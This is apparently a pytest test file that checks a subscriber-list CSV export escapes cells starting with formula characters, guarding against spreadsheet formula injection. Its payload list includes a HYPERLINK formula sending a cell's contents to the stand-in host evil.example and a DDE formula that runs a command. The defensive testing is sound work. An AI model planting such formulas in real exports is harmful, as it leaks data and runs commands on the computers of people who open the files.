"""Issue 13.10: an exported subscriber list cannot run formulas in the spreadsheet that opens it."""

import csv
import io

import pytest

from worker import subscribers
from worker.models import Subscriber

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_in_a_name_is_exported_as_text(payload):
    Subscriber.objects.create(email="eve@example.com", name=payload)
    out = io.StringIO()
    subscribers.export_csv(out)
    row = list(csv.reader(io.StringIO(out.getvalue())))[1]
    assert row[1] == "'" + payload


def test_an_address_starting_with_a_formula_character_is_exported_as_text():
    Subscriber.objects.create(email="=1+1@example.com", name="Eve")
    out = io.StringIO()
    subscribers.export_csv(out)
    assert list(csv.reader(io.StringIO(out.getvalue())))[1][0] == "'=1+1@example.com"


def test_ordinary_names_are_exported_unchanged():
    Subscriber.objects.create(email="ada@example.com", name="Ada Lovelace-Byron")
    out = io.StringIO()
    subscribers.export_csv(out)
    assert list(csv.reader(io.StringIO(out.getvalue())))[1][:2] == ["ada@example.com", "Ada Lovelace-Byron"]
